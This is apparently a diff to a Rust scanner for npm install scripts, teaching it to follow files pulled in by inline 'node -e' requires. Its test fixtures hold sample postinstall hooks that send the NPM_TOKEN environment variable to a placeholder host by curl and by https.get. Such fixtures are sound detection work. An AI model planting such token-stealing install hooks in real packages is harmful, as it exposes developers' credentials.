@@ -127,6 +127,17 @@ pub(crate) fn check(ctx: &mut Ctx<'_, '_>) {
         // The files it runs, and the local files those require, breadth first.
         let has = |p: &str| ctx.package.file(p).is_some();
         let mut queue: VecDeque<String> = script_files(&command, has).into();
+        // `node -e "try{require('./postinstall')}catch(e){}"` runs that file too.
+        for c in INLINE_NODE.captures_iter(&command) {
+            let code = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
+            for r in LOCAL_REQUIRE.captures_iter(code) {
+                if let Some(path) = r.get(1).and_then(|spec| resolve("", spec.as_str(), &has))
+                    && !queue.contains(&path)
+                {
+                    queue.push_back(path);
+                }
+            }
+        }
         let mut seen: BTreeSet<String> = queue.iter().cloned().collect();
         let mut followed = Vec::new();
         let mut obfuscated = Vec::new();
@@ -447,6 +458,25 @@ mod tests {
         let manifest = br#"{"scripts": {"postinstall": "curl -d $NPM_TOKEN https://x.invalid/"}}"#;
         let got = run(&[("package.json", manifest)]);
         assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
+    }
+
+    #[test]
+    fn inline_requires_are_followed() {
+        // core-js, es5-ext, nx, msw, vue-demi run their postinstall file this way.
+        let manifest = br#"{"scripts": {"postinstall": "node -e \"try{require('./postinstall')}catch(e){}\""}}"#;
+        let got = run(&[
+            ("package.json", manifest),
+            (
+                "postinstall.js",
+                b"require('https').get('https://x.invalid/' + process.env.NPM_TOKEN);",
+            ),
+        ]);
+        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
+        assert!(
+            got[0].message.contains("runs postinstall.js"),
+            "{}",
+            got[0].message
+        );
     }
 
     #[test]
